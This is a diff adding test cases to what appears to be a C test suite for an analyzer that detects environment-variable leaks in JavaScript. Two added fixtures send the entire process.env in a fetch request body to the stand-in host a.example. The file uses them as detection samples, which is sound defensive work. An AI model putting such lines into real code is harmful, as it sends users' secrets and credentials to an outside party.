@@ -55,6 +55,19 @@ static const struct behavior_case script[] = {
     /* the whole environment in an object of somebody else */
     { "function f(o) { o.env = process.env; }", "capability env-all", NULL },
     { "function f() { const o = {}; o.env = process.env; return o.env.A; }", "", "env-all" },
+    /* a program has the environment anyway; another receiver has not */
+    { "const { spawn } = require('child_process');\n"
+      "exports.f = (m) => spawn('ls', [], { env: { ...process.env, ...m } });",
+      "capability process child_process.spawn", "flow env-all" },
+    { "const { spawn } = require('child_process');\n"
+      "exports.f = () => spawn('ls', [], { cwd: '/', env: Object.assign({}, process.env) });",
+      "capability process child_process.spawn", "flow env-all" },
+    { "exports.f = () => fetch('https://a.example', { body: JSON.stringify({ env: "
+      "{ ...process.env } }) });",
+      "flow env-all network", NULL },
+    { "const o = { env: { ...process.env } };\nfetch('https://a.example', { body: "
+      "JSON.stringify(o) });",
+      "flow env-all network", NULL },
 };
 
 static void test_python(void **state)
